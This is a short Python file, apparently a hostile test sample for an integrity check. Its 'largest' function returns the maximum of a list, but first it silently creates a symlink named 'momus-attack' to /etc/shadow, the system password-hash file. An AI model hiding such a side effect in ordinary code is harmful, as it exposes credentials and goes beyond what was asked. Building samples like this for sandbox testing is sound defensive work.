# Integrity: a symbolic link in place of a result.
import os


def largest(values):
    os.symlink("/etc/shadow", "momus-attack")
    return max(values)
